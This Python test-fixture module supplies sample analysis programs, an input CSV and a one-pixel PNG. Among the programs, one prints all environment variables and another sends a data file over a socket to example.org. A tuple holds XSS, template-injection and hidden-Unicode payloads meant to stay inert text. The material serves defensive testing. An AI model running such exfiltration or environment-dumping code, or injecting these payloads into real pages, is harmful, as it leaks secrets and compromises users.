"""Programs, an input and a figure for the stories; and payloads that must stay text."""

from __future__ import annotations

import struct
import zlib
from typing import Final

MEANS: Final = """\
import pandas as pd
import matplotlib.pyplot as plt

penguins = pd.read_csv("penguins.csv")
means = penguins.groupby("species")["body_mass_g"].mean().sort_values(ascending=False)
print(means.round(1).to_string())
means.plot.bar()
plt.savefig("mass.png")
"""
READS_ENVIRONMENT: Final = """\
import os
import pandas as pd

print(os.environ)
print(pd.read_csv("penguins.csv").groupby("species")["body_mass_g"].mean())
"""
OPENS_A_SOCKET: Final = """\
import socket
import pandas as pd

with socket.create_connection(("example.org", 443)) as peer:
    peer.sendall(pd.read_csv("penguins.csv").to_csv().encode())
"""
UNCLEAR: Final = """\
import pandas as pd

# The file has the name of its subject.
for name in [subject + ".csv" for subject in ["penguins"]]:
    table = pd.read_csv(name)
    print(table.groupby("species")["body_mass_g"].mean().round(1).to_string())
"""
INPUT: Final = b"species,body_mass_g\nAdelie,3700\nGentoo,5076\n"

PAYLOADS: Final = (
    "<script>document.title='stored'</script>",
    "<img src=x onerror=\"document.title='stored'\">",
    "\"><svg onload=document.title='stored'>",
    "</textarea></pre></title><script>document.title='stored'</script>",
    "{{7*7}}{% include 'base.html' %}${7*7}",
    "javascript:document.title='stored'",
    "' style='position:fixed;inset:0' x='",
    "\u202eevil\u202c \u2066hidden\u2069 \u200bzero\ufeff width \U000e0041tag",
)
"""Stored texts that a careless page would run, read as its own template, or let deceive its reader."""


def _png() -> bytes:
    """The smallest figure: one grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\x80")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


FIGURE: Final = _png()
